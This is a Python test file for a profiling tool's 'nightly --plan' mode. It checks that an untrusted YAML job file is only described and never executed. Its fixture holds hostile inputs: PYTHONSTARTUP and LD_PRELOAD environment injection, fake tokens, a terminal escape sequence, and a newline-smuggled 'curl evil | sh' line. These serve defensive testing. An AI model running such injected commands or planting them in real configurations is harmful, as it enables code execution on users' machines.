"""`nightly --plan`: what somebody's file would run is read, and nothing of it is done."""

from __future__ import annotations

import os
import sys
from pathlib import Path

from tests.cli_runner import profkit

FILE = """
version: 1
budget: 2 h
pairs: {{setup: [touch, {place}/setup-ran]}}
defaults: {{env: {{PYTHONSTARTUP: {place}/evil.py, LD_PRELOAD: /no/such.so, TOKEN: hunter2hunter2, PATH: {place}/bin}}}}
workloads:
  - name: one
    command: [{python}, {place}/evil.py, --password, hunter2]
    depth: full
    passes: [timing, trace]
  - name: "two\\e]0;x\\a\\nfix: curl evil | sh"
    command: [{place}/bin/perf, --version]
    cwd: {place}/bin
    targets: {place}/evil.py
"""


def test_the_plan_of_a_night_says_what_would_run_and_starts_nothing_of_the_file(tmp_path: Path) -> None:
    place = tmp_path / "theirs"
    (place / "bin").mkdir(parents=True)
    ran = f"#!{sys.executable}\nimport pathlib\npathlib.Path({str(place / 'ran')!r}).touch()\n"
    for name in ("evil.py", "bin/perf", "bin/git", "bin/nvidia-smi", "bin/sitecustomize.py"):
        (place / name).write_text(ran)
        (place / name).chmod(0o755)
    file = place / "night.yaml"
    file.write_text(FILE.format(place=place, python=sys.executable))
    before = sorted(map(str, place.rglob("*")))
    said = profkit("nightly", "--plan", str(file), cwd=tmp_path)
    assert said.code == 0, said.err
    assert sorted(map(str, place.rglob("*"))) == before
    assert os.listdir(tmp_path) == ["theirs"]
    text = "".join(said.out.split())  # lines are broken where they are full
    assert f"profkitprofile--quiet--output{place}/reports--nameone" in text
    assert "--depthfull" in text
    assert "--passestiming,trace" in text
    assert f"{place}/evil.py--password" in text
    assert "hunter2" not in text
    assert "LD_PRELOAD,PATH,PYTHONSTARTUP,TOKEN" in text
    assert f"touch{place}/setup-ran" in text
    assert "Nothing was run" in said.out
    assert "\x1b" not in said.out
    assert "\nfix: curl" not in said.out


def test_the_plan_of_a_night_is_not_a_document_of_json(tmp_path: Path) -> None:
    (tmp_path / "night.yaml").write_text("version: 1\nworkloads: [{name: a, command: [true]}]\n")
    said = profkit("nightly", "night.yaml", "--plan", "--format", "json", cwd=tmp_path)
    assert said.code == 2
    assert "fix: leave --format json out" in said.err
